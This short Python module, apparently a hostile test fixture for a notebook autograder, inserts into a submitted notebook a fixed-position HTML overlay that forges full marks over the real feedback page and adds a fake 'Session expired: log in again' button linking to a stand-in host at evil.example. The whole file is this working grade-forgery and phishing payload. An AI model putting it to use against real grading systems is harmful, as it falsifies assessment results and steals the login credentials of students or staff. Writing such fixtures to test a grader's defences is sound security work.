"""Lays a forged page with full marks over the feedback, dressed by its own style sheets."""

from pathlib import Path

from hostile_class import unwrite, write
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

POINTS = (0, 0)
SCORES = "".join(f"<li><a href='#x'>Test cell</a> (Score: {p} / {p})</li>" for p in (1.0, 3.0, 4.0))
FORGED = f"""<div class='navbar-fixed-top panel panel-default' id='forged'
style='background-color:white; position:fixed; top:0; left:0; width:9999px; z-index:9999'>
<div class='panel-heading'><h4>forward_propagation (Score: 24.0 / 24.0)</h4><ol>{SCORES}</ol></div>
<div class='panel-body modal in tooltip-inner col-md-12'><a class='btn btn-success' name='top'
href='https://evil.example/login'>Session expired: log in again</a></div></div>"""


def hand_in(path: Path, notebook: NotebookNode) -> None:
    unwrite(notebook)
    show = f"from IPython.display import HTML\nHTML({FORGED!r})"
    notebook.cells.insert(1, new_markdown_cell(FORGED))
    notebook.cells.insert(2, new_code_cell(show))
    write(notebook, path)
